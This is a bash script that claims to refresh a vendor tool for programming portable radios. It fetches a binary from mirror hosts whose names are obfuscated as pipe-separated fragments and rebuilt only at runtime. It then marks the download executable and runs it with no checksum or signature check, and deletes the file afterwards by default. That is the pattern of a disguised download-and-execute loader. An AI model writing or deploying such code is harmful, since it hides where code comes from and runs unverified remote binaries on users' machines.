#!/usr/bin/env bash
# Refresh the handset programming tool used to load channel plans onto the
# team's portable radios.  The vendor publishes a new build every season;
# this pulls the current build and starts it so the technician can program
# the handsets straight away.

set -euo pipefail

ME="$(basename "$0")"
WORK="${HANDSET_TOOL_DIR:-$HOME/.cache/handset-tool}"
CHANNEL="${HANDSET_CHANNEL:-stable}"
LOGF="${WORK}/refresh.log"

# Mirror definition; the first reachable mirror wins.
MIRRORS=(
    "dl|example|org"
    "mirror|example|net"
)
PATH_PARTS=("radio" "handset" "$CHANNEL")
ARTIFACT="programmer"

log() { printf '%s [%s] %s\n' "$(date +%T)" "$ME" "$*" | tee -a "$LOGF"; }

join_host() {
    local IFS='.'
    # shellcheck disable=SC2206
    local parts=(${1//|/ })
    echo "${parts[*]}"
}

join_path() {
    local IFS='/'
    echo "$*"
}

fetcher() {
    if command -v curl >/dev/null 2>&1; then
        echo "curl -fsSL --retry 2 -o"
    else
        echo "wget -q -O"
    fi
}

pull_build() {
    local dest="$1" m host url
    local get
    get="$(fetcher)"
    for m in "${MIRRORS[@]}"; do
        host="$(join_host "$m")"
        url="https://${host}/$(join_path "${PATH_PARTS[@]}")/${ARTIFACT}"
        log "trying $url"
        # shellcheck disable=SC2086
        if $get "$dest" "$url"; then
            log "fetched from $host"
            return 0
        fi
    done
    return 1
}

prepare() {
    mkdir -p "$WORK"
    : >"$LOGF"
}

launch() {
    local bin="$1"
    shift
    chmod u+x "$bin"
    log "starting $(basename "$bin") $*"
    "$bin" "$@"
}

main() {
    local keep=0
    local extra=()
    while [ $# -gt 0 ]; do
        case "$1" in
            --keep) keep=1; shift ;;
            --) shift; extra=("$@"); break ;;
            *) extra+=("$1"); shift ;;
        esac
    done

    prepare
    local target="${WORK}/${ARTIFACT}.$$"
    if ! pull_build "$target"; then
        log "no mirror reachable"
        exit 1
    fi
    if [ ! -s "$target" ]; then
        log "empty download"
        exit 1
    fi

    launch "$target" "${extra[@]+"${extra[@]}"}"
    rc=$?
    if [ "$keep" -eq 0 ]; then
        rm -f "$target"
    fi
    exit "$rc"
}

main "$@"
